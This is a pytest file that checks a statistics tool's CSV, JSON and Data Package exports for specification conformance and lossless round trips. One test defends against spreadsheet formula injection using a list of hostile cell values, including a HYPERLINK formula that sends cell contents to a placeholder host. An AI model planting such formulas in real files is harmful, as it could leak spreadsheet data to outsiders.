"""Tests of exports: CSV and JSON lose nothing, the Data Package keeps to its specification."""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from popest.ledger.export import exported, slug, write_texts
from popest.ledger.spreadsheet import read_spreadsheet
from popest.study import PopestError, Study, load_study, study_from_texts
from popest.study.drafts.addition import Ledger
from popest.study.drafts.drafting import added
from popest.study.drafts.new_rows import Draft
from popest.study.observations.columns import COLUMNS
from popest.study.tables.cells import escaped, unescaped

STUDIES = ("serbia", "serbia-report-2024")

# What version 2 of the standard admits (Data Package, Data Resource, Table Schema).
PACKAGE_KEYS = {
    *("$schema", "name", "id", "title", "description", "homepage", "image", "version", "created"),
    *("keywords", "contributors", "sources", "licenses", "resources"),
}
RESOURCE_KEYS = {
    *("$schema", "name", "path", "data", "type", "title", "description", "format", "mediatype"),
    *("encoding", "bytes", "hash", "sources", "licenses", "dialect", "schema", "homepage"),
}
SCHEMA_KEYS = {
    *("$schema", "fields", "fieldsMatch", "missingValues", "primaryKey", "uniqueKeys"),
    "foreignKeys",
}
FIELD_KEYS = {
    *("name", "type", "format", "title", "description", "example", "constraints", "rdfType"),
    *("categories", "categoriesOrdered", "missingValues", "trueValues", "falseValues"),
    *("bareNumber", "groupChar", "decimalChar"),
}
CONSTRAINTS = {
    "string": {"required", "unique", "minLength", "maxLength", "pattern", "enum"},
    "integer": {"required", "unique", "minimum", "maximum", "enum", "pattern"},
    "number": {"required", "unique", "minimum", "maximum", "enum", "pattern"},
    "date": {"required", "unique", "minimum", "maximum", "enum", "pattern"},
    "boolean": {"required", "enum"},
}


def faults_of_package(package: dict[str, Any], files: dict[str, bytes]) -> list[str]:
    """Return what is wrong with a descriptor by the rules of the specification."""
    found = [f"unknown property {key}" for key in package.keys() - PACKAGE_KEYS]
    if package.get("$schema") != "https://datapackage.org/profiles/2.0/datapackage.json":
        found.append("no profile of version 2")
    if not re.fullmatch(r"[a-z0-9._-]+", package.get("name", "")):
        found.append("the name is not usable in an address")
    for source in package.get("sources", []):
        if not source or source.keys() - {"title", "path", "email", "version"}:
            found.append(f"odd source {source}")
        if "path" in source and not source["path"].startswith(("http://", "https://")):
            found.append(f"odd path {source['path']}")
    resources = package.get("resources")
    if not isinstance(resources, list) or not resources:
        return [*found, "no resources"]
    names = [resource.get("name") for resource in resources]
    if len(set(names)) < len(names):
        found.append("a name of a resource is not unique")
    for resource in resources:
        found += faults_of_resource(resource, files)
    return found


def faults_of_resource(resource: dict[str, Any], files: dict[str, bytes]) -> list[str]:
    found = [f"unknown property {key} of a resource" for key in resource.keys() - RESOURCE_KEYS]
    if not resource.get("name") or ("path" in resource) == ("data" in resource):
        found.append("a resource needs a name, and either path or data")
    path = resource.get("path", "")
    if path.startswith("/") or ".." in path.split("/") or path not in files:
        return [*found, f"the path {path!r} is not a file beside the descriptor"]
    if resource.get("type") != "table" or "schema" not in resource:
        found.append("a table needs its type and schema")
    data = files[path]
    if resource.get("bytes") != len(data):
        found.append("bytes is not the size")
    if resource.get("hash") != f"sha256:{sha256(data).hexdigest()}":
        found.append("hash is not that of the file")
    rows = list(csv.DictReader(io.StringIO(data.decode(resource["encoding"]), newline="")))
    return found + faults_of_schema(resource["schema"], rows)


def faults_of_schema(schema: dict[str, Any], rows: list[dict[str, str]]) -> list[str]:
    found = [f"unknown property {key} of a schema" for key in schema.keys() - SCHEMA_KEYS]
    names = [field.get("name") for field in schema["fields"]]
    if len(set(names)) < len(names) or names != list(rows[0]):
        found.append("the fields are not the columns")
    for field in schema["fields"]:
        found += faults_of_field(field, rows, set(schema.get("missingValues", [""])))
    key = schema.get("primaryKey", [])
    if not isinstance(key, list) or not set(key) <= set(names):
        found.append("odd primary key")
    elif len({tuple(row[name] for name in key) for row in rows}) < len(rows):
        found.append("the primary key is not unique")
    for foreign in schema.get("foreignKeys", []):
        reference = foreign["reference"]
        if foreign.keys() != {"fields", "reference"} or reference.keys() - {"resource", "fields"}:
            found.append("odd foreign key")
            continue
        (column,), (target,) = foreign["fields"], reference["fields"]
        known = {row[target] for row in rows}
        found += [
            f"{row[column]} is no {target}" for row in rows if row[column] not in {"", *known}
        ]
    return found


def faults_of_field(
    field: dict[str, Any], rows: list[dict[str, str]], missing: set[str]
) -> list[str]:
    name, kind, rules = field["name"], field.get("type", "any"), field.get("constraints", {})
    found = [f"unknown property {key} of {name}" for key in field.keys() - FIELD_KEYS]
    found += [f"{kind} has no constraint {key}" for key in rules.keys() - CONSTRAINTS[kind]]
    texts = [row[name] for row in rows]
    if rules.get("required") and missing & set(texts):
        found.append(f"{name} is missing somewhere")
    given = [text for text in texts if text not in missing]
    if rules.get("unique") and len(set(given)) < len(given):
        found.append(f"{name} is not unique")
    found += [f"{name}: {text!r} is no {kind}" for text in given if not is_of_kind(text, field)]
    for text in given:
        if "pattern" in rules and not re.fullmatch(rules["pattern"], text):
            found.append(f"{name}: {text!r} has another pattern")
        if "enum" in rules and text not in rules["enum"]:
            found.append(f"{name}: {text!r} is not among the words")
        if len(text) > rules.get("maxLength", len(text)):
            found.append(f"{name} is too long")
    return found


def is_of_kind(text: str, field: dict[str, Any]) -> bool:
    match field["type"]:
        case "integer":
            return re.fullmatch(r"[+-]?[0-9]+", text) is not None
        case "number":
            return re.fullmatch(r"[+-]?[0-9]+([.][0-9]+)?([eE][+-]?[0-9]+)?", text) is not None
        case "date":
            return str(date.fromisoformat(text)) == text
        case "boolean":
            return text in (*field["trueValues"], *field["falseValues"])
        case kind:
            return bool(kind == "string")


def package(study: Study) -> tuple[dict[str, Any], dict[str, bytes]]:
    texts = exported(study, "datapackage")
    return json.loads(texts["datapackage.json"]), {k: v.encode() for k, v in texts.items()}


def plain(text: str) -> str:
    """Return an exported table without the apostrophes before what a spreadsheet works out."""
    return re.sub(r"(^|,)(\"?)'(?=[=+@-])", r"\1\2", text, flags=re.MULTILINE)


def corrected(folder: Path) -> Study:
    study = load_study(folder)
    return study.with_observation(
        "register", 853, end="2022-12-31", published="2023-06", supersedes="REG02"
    )


@pytest.mark.parametrize("name", STUDIES)
def test_the_data_package_keeps_to_the_specification(name: str) -> None:
    assert faults_of_package(*package(load_study(name))) == []


def test_a_data_package_with_corrections_keeps_to_the_specification(folder: Path) -> None:
    assert faults_of_package(*package(corrected(folder))) == []


@pytest.mark.parametrize(
    ("path", "value", "fault"),
    [
        (("$schema",), "https://datapackage.org/profiles/1.0/datapackage.json", "no profile"),
        (("name",), "Two Words", "not usable"),
        (("profile",), "tabular-data-package", "unknown property profile"),
        (("resources",), [], "no resources"),
        (("resources", 0, "path"), "../observations.csv", "beside the descriptor"),
        (("resources", 0, "type"), "csv", "needs its type"),
        (("resources", 0, "hash"), "sha256:00", "hash"),
        (("resources", 0, "bytes"), 1, "size"),
        (("resources", 0, "schema", "primaryKey"), ["source"], "not unique"),
        (("resources", 0, "schema", "fields", 2, "type"), "date", "no constraint"),
        (("resources", 0, "schema", "fields", 3, "constraints", "enum"), ["exact"], "words"),
        (("resources", 0, "schema", "fields", 10, "trueValues"), ["true"], "is no boolean"),
        (
            ("resources", 0, "schema", "foreignKeys", 0, "reference", "fields"),
            ["note"],
            "is no note",
        ),
    ],
)
def test_a_broken_descriptor_is_seen(
    folder: Path, path: tuple[Any, ...], value: Any, fault: str
) -> None:
    descriptor, files = package(corrected(folder))
    place: Any = descriptor
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    if path[-3:-1] == (2,) or fault == "no constraint":
        place["constraints"] = {"maxLength": 3}
        place["type"] = "integer"
    assert fault in "\n".join(faults_of_package(descriptor, files))


@pytest.mark.parametrize("name", STUDIES)
def test_the_table_is_read_as_the_study_again(name: str) -> None:
    study = load_study(name)
    text = plain(exported(study, "csv")["observations.csv"])
    again = study_from_texts(name, study.specification_text, text)
    assert again.observations == study.observations
    assert text == study.observations_text


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_spreadsheet_round_trip_gives_the_same_rows(
    root: Path, tmp_path: Path, separator: str
) -> None:
    """Export, save from a spreadsheet with its separator, mark and line ends, and add again."""
    study = load_study("serbia")
    rows = csv.reader(io.StringIO(exported(study, "csv")["observations.csv"], newline=""))
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator, lineterminator="\r\n").writerows(rows)
    (tmp_path / "figures.csv").write_bytes(("\ufeff" + out.getvalue()).encode())
    drafts = read_spreadsheet(tmp_path / "figures.csv")
    empty = study.observations_text.partition("\n")[0] + "\n"
    ledger = Ledger.read(root / "data/sources/serbia")
    ledger = Ledger(ledger.specification, type(ledger.observations)("o.csv", empty))
    today = max(row.recorded for row in study.observations)
    again = ledger.with_rows(added(ledger, drafts, today))
    # The day of recording is that of the adding, whatever the table says.
    assert again.content.rows == tuple(replace(row, recorded=today) for row in study.observations)


HOSTILE = [
    '=HYPERLINK("https://x.example?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "\uff1d1+1",
    "'=1",
    "''+x",
    "'plain",
    "-10",
    "-10 of them",
    '"=1"',
]


def test_no_cell_of_an_export_is_a_formula_and_every_cell_comes_back(
    folder: Path, tmp_path: Path
) -> None:
    """What a spreadsheet would work out begins, in the file, with an apostrophe."""
    ledger = Ledger.read(folder)
    rows = [
        Draft({"source": "experts", "value": "7", "use": "no", "publisher": f"P{n}", "note": text})
        for n, text in enumerate(HOSTILE)
    ]
    addition = ledger.with_rows(added(ledger, rows, date(2024, 6, 1)))
    study = study_from_texts("x", ledger.specification.text, addition.observations.text)
    for form in ("csv", "datapackage"):
        text = exported(study, form)["observations.csv"]
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        dangerous = [cell for cell in cells if re.match(r"\s*[=+@\uff1d-]|\s+=|\t", cell)]
        assert {cell for cell in dangerous if not re.fullmatch("-[0-9]+", cell)} == set()
        (tmp_path / "out.csv").write_bytes(text.encode())
        drafts = read_spreadsheet(tmp_path / "out.csv")
        notes = {draft.cells["publisher"]: draft.cells["note"] for draft in drafts}
        # An import takes blanks off the ends of cells, whoever wrote them.
        assert [notes[f"P{n}"].strip() for n in range(len(HOSTILE))] == [
            note.strip() for note in HOSTILE
        ]
        sums = {draft.cells["id"]: draft.cells["derived_from"] for draft in drafts}
        assert sums["PER03"] == "+PER02 -PER01"
        assert faults_of_package(*package(study)) == []


@given(st.text())
def test_every_text_comes_back_from_its_escape(text: str) -> None:
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("Руси у Србији", "rusi-u-srbiji-"),  # noqa: RUF001
        ("Ђаци", "djatsi-"),
        ("объект", "obekt-"),
        ("Český Krumlov", "cesky-krumlov-"),
        ("中国", "study-"),
        ("...", "study-"),
        ("CON", "con-"),
    ],
)
def test_a_package_has_a_name_in_any_script(folder: Path, name: str, words: str) -> None:
    study = load_study(folder.rename(folder.with_name(name)))
    descriptor, files = package(study)
    assert descriptor["name"].startswith(words) and len(descriptor["name"]) <= 64
    assert faults_of_package(descriptor, files) == []


def test_two_studies_do_not_share_the_name_of_a_package() -> None:
    names = ["a", "A", "a b", "a-b", "Ш", "ш", "Sh", "sh", "中", "国", "x" * 70, "x" * 71]
    assert len({slug(name) for name in names}) == len(names)
    assert [slug(name) for name in ("serbia-2024", "a.b_c")] == ["serbia-2024", "a.b_c"]


def test_json_tells_everything(folder: Path) -> None:
    study = corrected(folder)
    document = json.loads(exported(study, "json")["example.json"])
    assert document["data_sha256"] == study.data_sha256
    assert document["sources"]["register"]["ratio"]["interval90"] == [0.6, 1.07]
    assert document["headline"] == [str(asked.last) for asked in study.specification.headlines]
    rows = {row["id"]: row for row in document["observations"]}
    assert set(rows["REG01"]) == {*COLUMNS, "in_use"}
    assert rows["REG01"]["published"] == "2022-08" and rows["REG01"]["start"] is None
    assert [rows[name]["in_use"] for name in ("REG01", "REG02", "REG03", "REG04")] == [
        True,
        False,
        False,
        True,
    ]
    assert rows["PER03"]["derived_from"] == [
        {"sign": 1, "id": "PER02"},
        {"sign": -1, "id": "PER01"},
    ]


def test_files_are_written_whole_and_never_over_a_study(folder: Path, tmp_path: Path) -> None:
    target = tmp_path / "new" / "place" / "a.csv"
    write_texts({target: "a\r\n"})
    assert target.read_bytes() == b"a\r\n"
    assert [path.name for path in target.parent.iterdir()] == ["a.csv"]
    before = (folder / "observations.csv").read_bytes()
    with pytest.raises(PopestError, match="own table"):
        write_texts({folder / "observations.csv": "x"})
    assert (folder / "observations.csv").read_bytes() == before
    with pytest.raises(PopestError, match="cannot be written"):
        write_texts({folder / "study.toml" / "a.csv": "x"})


def test_a_draft_is_what_is_added(folder: Path) -> None:
    ledger = Ledger.read(folder)
    cells = {"source": "experts", "value": "1", "publisher": "A", "use": "no", "note": "b"}
    (draft,) = added(ledger, [Draft(cells)], date(2024, 6, 1))
    assert {k: v for k, v in draft.cells.items() if v} == cells | {
        "id": "EXP02",
        "recorded": "2024-06-01",
    }
